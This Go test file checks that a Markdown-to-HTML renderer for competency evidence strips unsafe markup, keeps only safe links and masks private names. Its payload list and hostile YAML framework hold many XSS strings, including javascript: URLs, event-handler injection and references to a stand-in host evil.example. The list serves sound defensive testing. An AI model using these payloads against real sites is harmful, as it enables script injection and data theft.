package render

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"golang.org/x/net/html"

	"merit/frameworks"
	"merit/pkg/evidence"
	"merit/pkg/framework"
	"merit/pkg/lint"
	"merit/pkg/source"
)

// pageDay is the day on which every page of a test is made.
var pageDay = time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC)

// pageCatalog has the frameworks and one whose every text is hostile.
var pageCatalog = func() *framework.Catalog {
	catalog := framework.NewCatalog(evidence.MethodIDs())
	if err := catalog.Add(frameworks.Files, ""); err != nil {
		panic(err)
	}
	if err := catalog.Add(fstest.MapFS{"hostile.yaml": {Data: []byte(hostileFramework)}}, "mine"); err != nil {
		panic(err)
	}
	return catalog
}()

const hostileFramework = `
title: '</title><script>alert(1)</script>'
publisher: '<svg onload=alert(1)>'
source: 'javascript:alert(1)'
licence: '<img src=x onerror=alert(1)>'
copyright: '"><script>alert(1)</script>'
wording: verbatim
levels: [{id: "1", title: '<b onclick=alert(1)>one</b>', grades: ['</style><script>alert(1)</script>']}]
competencies:
  - id: 'x"onmouseover=alert(1)'
    title: '<script>alert(1)</script> first'
    indicators:
      - {id: one, level: "1", text: '"><img src=x onerror=alert(1)> is an indicator'}
      - {id: two, level: "1", text: '<a href="javascript:alert(1)">two</a> is another one'}
  - id: absent
    title: '</li></ul><iframe src=javascript:alert(1)>'
`

// readPage reads an evidence file as the program does.
func readPage(path, text string, options evidence.Options) (*Document, error) {
	file, err := source.ReadFrom(path, strings.NewReader(text), source.Markdown)
	if err != nil {
		return nil, err
	}
	options.Find = pageCatalog.Find
	f := evidence.Parse(file, options)
	doc := &Document{File: f, Entries: f.Coverage(pageDay), Findings: lint.Check(f, lint.Rules, lint.Options{Today: pageDay})}
	for _, word := range f.Meta.Private {
		doc.Private = append(doc.Private, word.Value)
	}
	return doc, nil
}

func pageOf(t testing.TB, path, text string) string {
	t.Helper()
	doc, err := readPage(path, text, evidence.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return written(t, doc)
}

func written(t testing.TB, doc *Document) string {
	t.Helper()
	var out bytes.Buffer
	if err := HTML(&out, doc); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// examplePages gives the text of each of the examples.
func examplePages(t testing.TB) map[string]string {
	t.Helper()
	paths, err := filepath.Glob("../../examples/*.md")
	if err != nil || len(paths) == 0 {
		t.Fatal("no examples", err)
	}
	texts := map[string]string{}
	for _, path := range paths {
		text, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		texts[filepath.Base(path)] = string(text)
	}
	return texts
}

// TestHTMLGolden compares the examples' pages with those kept, which
// UPDATE=1 go test ./pkg/render writes anew.
func TestHTMLGolden(t *testing.T) {
	for name, doc := range exampleDocs(t) {
		t.Run(name, func(t *testing.T) {
			doc.Review = name == "reviewed.md"
			got := written(t, doc)
			checkPage(t, got)
			golden(t, strings.TrimSuffix(name, ".md")+".html", got)
		})
	}
}

// What a page may hold: elements, and attributes wherever they stand.
var (
	pageElements = strings.Fields(`html head meta title link style body a header h1 h2 h3 h4 h5 dl div dt dd p span bdi strong em code pre br
		nav ul ol li main section article svg rect blockquote table tr th td footer details summary mark ins del`)
	pageAttributes = strings.Fields(`lang dir charset http-equiv content name class href id tabindex aria-labelledby aria-label role
		rel viewbox preserveaspectratio width height x y start value scope aria-hidden title open`)
	onceOnly    = strings.Fields("html head title link style body h1 nav main footer")
	safeHref    = regexp.MustCompile(`(?i)^(https?:|mailto:|#|[^:/\\][^:\\]*$|[^:/\\]*[/?#]|/[^/\\]|/$)`)
	pageControl = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f-\u009f\u2028-\u202e\u2066-\u2069]")
)

// checkPage says what a page has that no page may have.
func checkPage(t testing.TB, page string) {
	t.Helper()
	if found := pageControl.FindString(page); found != "" {
		t.Errorf("the page holds %q", found)
	}
	ids, links, count := map[string]bool{}, []string{}, map[string]int{}
	tokens := html.NewTokenizer(strings.NewReader(page))
	for {
		kind := tokens.Next()
		if kind == html.ErrorToken {
			break
		}
		token := tokens.Token()
		switch kind {
		case html.CommentToken:
			t.Errorf("a comment: %q", token.Data)
		case html.EndTagToken:
			if !slices.Contains(pageElements, token.Data) {
				t.Errorf("the end of a <%s>", token.Data)
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			if !slices.Contains(pageElements, token.Data) {
				t.Errorf("an element <%s>", token.Data)
			}
			count[token.Data]++
			for _, a := range token.Attr {
				if !slices.Contains(pageAttributes, strings.ToLower(a.Key)) {
					t.Errorf("an attribute %s in %s", a.Key, token)
				}
				switch a.Key {
				case "id":
					if ids[a.Val] || !strings.HasPrefix(a.Val, "m-") {
						t.Errorf("an id that is not unique or has no prefix: %s", a.Val)
					}
					ids[a.Val] = true
				case "href":
					if token.String() == `<link rel="icon" href="data:,">` { // or browsers ask for /favicon.ico
						continue
					}
					links = append(links, a.Val)
					if probe, ok := bareAddress(a.Val); !safeHref.MatchString(a.Val) || !ok || !safeHref.MatchString(probe) {
						t.Errorf("an address %q", a.Val)
					}
				}
			}
		}
	}
	for _, name := range onceOnly {
		if index := strings.Contains(page, `<body class="index">`); count[name] != 1 && (name != "nav" || !index) {
			t.Errorf("%d elements <%s>", count[name], name)
		}
	}
	checkTree(t, page)
	for _, link := range links {
		if strings.HasPrefix(link, "#") && !strings.HasPrefix(link, "#m-") {
			t.Errorf("a link %s to nothing of the page", link)
		}
	}
}

// checkTree parses the page as a browser does and says what was put elsewhere
// than it was written: text and elements that are not where they belong.
func checkTree(t testing.TB, page string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.TextNode && n.Parent.Data == "body" && strings.TrimSpace(n.Data) != "" {
			t.Errorf("text outside everything: %q", n.Data)
		}
		if n.Type == html.ElementNode && n.Data == "p" && n.FirstChild == nil {
			t.Error("a paragraph that was torn")
		}
	}
}

// payloads are what has been smuggled into pages elsewhere.
var payloads = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x`,
	`</title><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`<style>*{background:url(//evil.example)}</style>`,
	`<p style="position:fixed;inset:0">over all</p>`,
	`]]><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<!--><script>alert(1)</script>-->`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<base href="//evil.example/">`,
	`<form action="//evil.example"><input name=body>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<a href="javascript:alert(1)" onclick="alert(1)">x</a>`,
	`" onmouseover="alert(1)`,
	`' onfocus='alert(1)' autofocus='`,
	`{{.}} {{template "state"}} <%= 1 %> ${alert(1)}`,
	`&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;`,
	"<scr\x00ipt>alert(1)</script>",
	"\u202egnp.exe\u202c \u2066x\u2069 \x1b]0;title\x07 \u009b31m",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](&#x6A&#x61;vascript&colon;alert(1))",
	"[x](java&Tab;script:alert(1))",
	"[x](java&NewLine;script&colon;alert(1))",
	"[x](java%73cript:alert(1))",
	"[x](java%2573cript:alert(1))",
	"[x](<\tjavascript:alert(1)>)",
	"[x](<java\tscript:alert(1)>)",
	"[x](\x01javascript:alert(1))",
	"[x](java\u00adscript:alert(1))",
	"[x](\u200bjavascript:alert(1))",
	`[x](javascript\:alert\(1\))`,
	"[x](data:text/html,<script>alert(1)</script>)",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"[x](vbscript:msgbox(1))",
	"[x](view-source:javascript:alert(1))",
	"[x](blob:https://evil.example/1)",
	"[x](file:///etc/passwd)",
	"[x](//evil.example/)",
	`[x](\\evil.example\share)`,
	`[x](/\evil.example/)`,
	`[x](https://example.org/"onclick="alert(1))`,
	`[x](<https://example.org/' onclick='alert(1)> "title\" onclick=alert(1)")`,
	"[x][r]\n\n[r]: javascript:alert(1)",
	"[x][r]\n\n[r]: <java\tscript:alert(1)> 'onclick=alert(1)'",
	"<javascript:alert(1)>",
	"<data:text/html,alert>",
	"<vbscript:x>",
	"<javascript&colon;alert(1)>",
	"![x](javascript:alert(1))",
	"![<img src=x onerror=alert(1)>](x)",
	`![x](x"onerror="alert(1))`,
	"![x](https://evil.example/pixel.png)",
	"[![x](javascript:alert(1))](javascript:alert(2))",
	"`<script>alert(1)</script>`",
	"```html\n<script>alert(1)</script>\n```",
	"| <script>alert(1)</script> | b |\n|---|---|\n| <svg onload=alert(1)> | [x](javascript:alert(1)) |",
	"> <script>alert(1)</script>\n>\n> - <img src=x onerror=alert(1)>",
	"- [ ] <script>alert(1)</script>\n- [x] <svg onload=alert(1)>",
}

// TestHTMLHostile puts every payload wherever a file has text.
func TestHTMLHostile(t *testing.T) {
	for _, payload := range payloads {
		line := strings.Join(strings.Fields(payload), " ")
		quoted := "'" + strings.ReplaceAll(strings.Map(func(r rune) rune {
			if r < ' ' || r >= 0x7f {
				return -1
			}
			return r
		}, line), "'", "''") + "'"
		for place, text := range map[string]string{
			"text":       payload + "\n",
			"answer":     "# T\n\n## Leading\n\n" + payload + "\n\n" + line + "\n",
			"part":       "## Leading\n\n**Situation:** " + line + "\n\n**Action:** I did. " + line + "\n\n" + payload + "\n",
			"headings":   "# " + line + "\n\n## " + line + "\n\nText.\n\n### " + line + "\n\nText.\n\n### " + line + "\n\nText.\n",
			"bold":       "**" + line + "**\n\nText.\n\n**" + line + "**\n\nText.\n",
			"labels":     "## Leading\n\n### " + line + "\n\n#### Situation " + line + "\n\nText.\n\n**Action " + line + "**: text\n",
			"matter":     "---\nframework: " + quoted + "\nlevel: " + quoted + "\nmethod: " + quoted + "\nprivate: [" + quoted + "]\ndate: " + quoted + "\nlimits: {" + quoted + ": 5}\n---\n\n## Leading\n\nText.\n",
			"framework":  "---\nframework: hostile\nlevel: 1\n---\n\n# " + line + "\n\n## " + line + "\n\n- [x] " + line + "\n\nText " + line + "\n",
			"indicators": "---\nframework: hostile\nlevel: 1\nanswer: indicator\n---\n\n## \\<script>alert(1)\\</script> first\n\n### \\\"><img src=x onerror=alert(1)> is an indicator\n\n" + line + "\n",
			"list":       "## Leading\n\n- " + line + "\n  - " + line + "\n\n3) " + line + "\n",
			"comments":   "## Leading\n\nI {>>" + line + "<<}did {++" + line + "++}all {~~of~>" + line + "~~} {--" + line + "--} {==" + line + "==}. <!-- coach: " + line + " -->\n\n<!-- " + line + ": " + line + " -->\n",
			"table":      "## Leading\n\n| a | b |\n|---|---|\n| " + line + " | " + line + " |\n",
		} {
			t.Run(place+"/"+line, func(t *testing.T) {
				doc, err := readPage(line+".md", text, evidence.Options{})
				if err != nil {
					t.Fatal(err)
				}
				checkPage(t, written(t, doc))
				doc.Review = true
				checkPage(t, written(t, doc))
			})
		}
	}
}

// TestHTMLAddress says which links stay links, and where they lead.
func TestHTMLAddress(t *testing.T) {
	for _, tt := range []struct{ markdown, href string }{
		{"[x](https://example.org/a?b=c&d=e#f)", "https://example.org/a?b=c&d=e#f"},
		{"[x](https://example.org/a?b=c&amp;d=e)", "https://example.org/a?b=c&d=e"},
		{"[x](HTTP://example.org)", "HTTP://example.org"},
		{"[x](<https://example.org/two words>)", "https://example.org/two%20words"},
		{"[x](https://example.org/é)", "https://example.org/%C3%A9"},
		{"[x](https://example.org/%C3%A9)", "https://example.org/%C3%A9"},
		{"<https://example.org/a&b>", "https://example.org/a&b"},
		{"<team@example.org>", "mailto:team@example.org"},
		{"[x](mailto:team@example.org?subject=A%20b)", "mailto:team@example.org?subject=A%20b"},
		{"<ada@example.org>", ""},
		{"[x](other.md)", "other.md"},
		{"[x](../folder/other.md)", "../folder/other.md"},
		{"[x](/other)", "/other"},
		{"[x](#Delivering-at-pace)", "#m-delivering-at-pace"},
		{"[x](?q)", "?q"},
		{"[x](a/b:c)", "a/b:c"},
		{"[x](notes:two)", ""},
		{"[x](javascript%3Aalert(1))", ""},
		{"[x](%256Aavascript&colon;alert(1))", ""},
		{"[x](%2F%2Fexample.org)", ""},
		{"[x](ftp://example.org)", ""},
		{"[x](https://example.org/ada-example)", ""},
		{"[x](mailto:Ada.Example@example.org)", ""},
		{"[x](https://example.org/AdaExample/%61%64%61%20example)", ""},
		{"[x](%%%25%25%2525)", "%%%25%25%2525"},
		{"[x](https://example.org/" + strings.Repeat("x", 5000) + ")", ""},
	} {
		page := pageOf(t, "a.md", "---\nprivate: [Ada Example]\n---\n\n## Leading\n\nSee "+tt.markdown+" here.\n")
		checkPage(t, page)
		_, page, _ = strings.Cut(page, "<main")
		got := ""
		if i := strings.Index(page, `<a href="`); i >= 0 {
			got, _, _ = strings.Cut(page[i+len(`<a href="`):], `"`)
		}
		if got = html.UnescapeString(got); got != tt.href {
			t.Errorf("%s leads to %q, not %q", tt.markdown, got, tt.href)
		}
	}
}

// TestHTMLProse says what becomes of Markdown.
func TestHTMLProse(t *testing.T) {
	for _, tt := range []struct{ markdown, want string }{
		{"One “two” – three… & <four.", "<p>One “two” – three… &amp; &lt;four.</p>"},
		{"A **b *c* d** e `f` *g.*", "<p>A <strong>b <em>c</em> d</strong> e <code>f</code> <em>g.</em></p>"},
		{"Line one  \nline two\nline three.", "<p>Line one<br>\nline two line three.</p>"},
		{"A [b **c**](x.md) ![a dog](dog.png).", `<p>A <a href="x.md">b <strong>c</strong></a> <em class="image">[image: a dog]</em>.</p>`},
		{"Intro:\n\n- one.\n- two.\n  - three.\n\n    four.\n- five.\n\nAfter.",
			"<p>Intro:</p>\n<ul><li><p>one.</p>\n</li>\n<li><p>two.</p>\n<ul><li><p>three.</p>\n<p>four.</p>\n</li></ul>\n</li>\n<li><p>five.</p>\n</li></ul>\n<p>After.</p>"},
		{"Intro:\n\n3) three.\n4) four.\n9) nine.\n\nAfter.",
			"<p>Intro:</p>\n<ol class=\"bracket\" start=\"3\"><li><p>three.</p>\n</li>\n<li><p>four.</p>\n</li>\n<li value=\"9\"><p>nine.</p>\n</li></ol>\n<p>After.</p>"},
		{"- one.\n1. two.\n2) three.", "<ul><li><p>one.</p>\n</li></ul>\n<ol><li><p>two.</p>\n</li></ol>\n<ol class=\"bracket\" start=\"2\"><li><p>three.</p>\n</li></ol>"},
		{"Said:\n\n> one.\n>\n> - two.\n> - three.\n\nend.",
			"<p>Said:</p>\n<blockquote>\n<p>one.</p>\n<ul><li><p>two.</p>\n</li>\n<li><p>three.</p>\n</li></ul>\n</blockquote>\n<p>end.</p>"},
		{"- one.\n\n  > two.\n\n- > three.", "<ul><li><p>one.</p>\n<blockquote>\n<p>two.</p>\n</blockquote>\n</li>\n<li><blockquote>\n<p>three.</p>\n</blockquote>\n</li></ul>"},
		{"Code:\n\n    a  <b>\n      c", "<p>Code:</p>\n<pre tabindex=\"0\"><code>a  &lt;b&gt;\n  c</code></pre>"},
		{"I saw:\n\n| one | two |\n|---|---|\n| **three** | |\n\nend.",
			"<p>I saw:</p>\n<div class=\"scroll\" role=\"region\" aria-label=\"Table\" tabindex=\"0\"><table>\n<tr><th scope=\"col\">one</th><th scope=\"col\">two</th></tr>\n<tr><td><strong>three</strong></td><td></td></tr>\n</table></div>\n<p>end.</p>"},
		{"I met Ada Example, **Ada** Example, ADA\nEXAMPLE and Adas Example.", "<p>I met ███ ███████, <strong>███</strong> ███████, ███ ███████ and Adas Example.</p>"},
		{"I told <!-- coach: who? --> {>>really?<<}them {++and us++}all.", "<p>I told  them all.</p>"},
		{"a\u202eb\u2066c\u0085d\u009be\u200ff\ufeffg.", "<p>abc de\u200ff g.</p>"},
	} {
		page := pageOf(t, "a.md", "---\nprivate: [Ada Example]\n---\n\n## Leading\n\n"+tt.markdown+"\n")
		checkPage(t, page)
		_, got, _ := strings.Cut(page, "<div class=\"prose\">\n")
		got, _, _ = strings.Cut(got, "\n</div>\n</div>\n")
		if got != tt.want {
			t.Errorf("%s\ngot  %s\nwant %s", tt.markdown, got, tt.want)
		}
	}
}

// TestHTMLPrivate looks for private words wherever a page has words.
func TestHTMLPrivate(t *testing.T) {
	page := pageOf(t, "in/Ada Example/ada example.md", "---\nframework: core-areas\nprivate: [Ada Example, zebra]\n---\n\n# Of Ada Example\n\n## Zebra and ada\u200b example\n\n"+
		"### By Ada Example\n\n**Action:** I, Ada\n**Example**, met a `zebra` [zebra](zebra.md) ![Ada Example](ada).\n\n| Ada Example |\n|---|\n| zebra |\n")
	checkPage(t, page)
	for _, word := range []string{"ada", "zebra"} {
		if i := strings.Index(strings.ToLower(page), word); i >= 0 {
			t.Errorf("%q is in …%s…", word, page[max(0, i-40):min(len(page), i+40)])
		}
	}
	if !strings.Contains(page, "<title>Of ███ ███████</title>") {
		t.Error("no masked title")
	}
}

// TestHTMLLive says that a live page differs from a plain one, which has no
// script, in the reload script and the leave to use it alone.
func TestHTMLLive(t *testing.T) {
	doc, err := readPage("a.md", "## Leading\n\n"+strings.Join(payloads, "\n\n")+"\n", evidence.Options{})
	if err != nil {
		t.Fatal(err)
	}
	plain := written(t, doc)
	checkPage(t, plain)
	doc.Live = true
	live := written(t, doc)
	for _, more := range []string{"\n<script src=\"reload.js\" defer></script>", "script-src 'self'; connect-src 'self'; "} {
		if strings.Count(live, more) != 1 {
			t.Errorf("a live page has no %s", more)
		}
		live = strings.Replace(live, more, "", 1)
	}
	if live != plain {
		t.Error("a live page differs in more than its script")
	}
}

// TestHTMLNames gives headings that the page's own names and each other's are
// like; checkPage finds an id that is not unique.
func TestHTMLNames(t *testing.T) {
	page := pageOf(t, "a.md", "---\nframework: civil-service-2012\n---\n\n## Content\n\nOne.\n\n## Contents\n\nTwo.\n\n## Absent\n\nThree.\n\n## Changing and improving\n\nFour.\n\n## Changing and improving\n\nFive.\n\n## ***\n\nSix.\n\n## Über uns\n\nSeven.\n")
	checkPage(t, page)
	for _, id := range []string{"m-content-2", "m-contents-2", "m-absent-2", "m-changing-and-improving", "m-changing-and-improving-2", "m-über-uns"} {
		if !strings.Contains(page, `<h2 id="`+id+`"`) {
			t.Errorf("no heading %s", id)
		}
	}
}

// TestHTMLStates says how each state is told.
func TestHTMLStates(t *testing.T) {
	page := pageOf(t, "a.md", `---
framework: civil-service-2012
level: 3
limit: {max: 40, count: characters}
answer: competency
waive: [{competency: making-effective-decisions, reason: not asked}]
---

## Seeing the big picture

**Situation:** I wrote one thing and much more than fits.

**Action:** TBC

## Collaborating and partnering

- bits
- and bobs

## Changing and improving

- [x] Find ways to improve systems and structures to deliver with more streamlined resources
- [ ] Something else
`)
	checkPage(t, page)
	for _, want := range []string{
		`<span class="state over">1 over the limit</span>`,
		`<span class="state notes">1 part empty</span>`, `<span class="state notes">Notes only</span>`,
		`<span class="state claimed">Claimed, not written</span>`,
		`42 of 40 characters, 9 words`, `aria-label="105 % of the limit"`,
		`Nothing here yet.`, `Making effective decisions, waived`, `Line 9`,
		`<strong>1 of 3</strong> answers written`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("no %s", want)
		}
	}
}

// TestHTMLBounded renders what grows without end.
func TestHTMLBounded(t *testing.T) {
	text := "## Leading\n\n" + strings.Repeat(strings.Repeat("[x] ", 40)+"\n\n", 400) + "[x]: https://example.org/" + strings.Repeat("y", 3000) + "\n"
	doc, err := readPage("a.md", text, evidence.Options{})
	if err != nil {
		t.Skip("refused before it is rendered:", err)
	}
	var out bytes.Buffer
	if err := HTML(&out, doc); !errors.Is(err, errLargePage) || out.Len() > 0 {
		t.Errorf("%v, %d bytes", err, out.Len())
	}
}

func FuzzHTML(f *testing.F) {
	for _, text := range examplePages(f) {
		f.Add(text)
	}
	for _, payload := range payloads {
		f.Add("# T\n\n## Leading\n\n**Situation:** " + payload + "\n")
		f.Add("---\nframework: hostile\nprivate: [alert]\n---\n" + payload)
	}
	f.Fuzz(func(t *testing.T, text string) {
		doc, err := readPage("fuzz.md", text, evidence.Options{})
		if err != nil {
			t.Skip()
		}
		checkPage(t, written(t, doc))
		doc.Review = true
		checkReview(t, doc)
	})
}
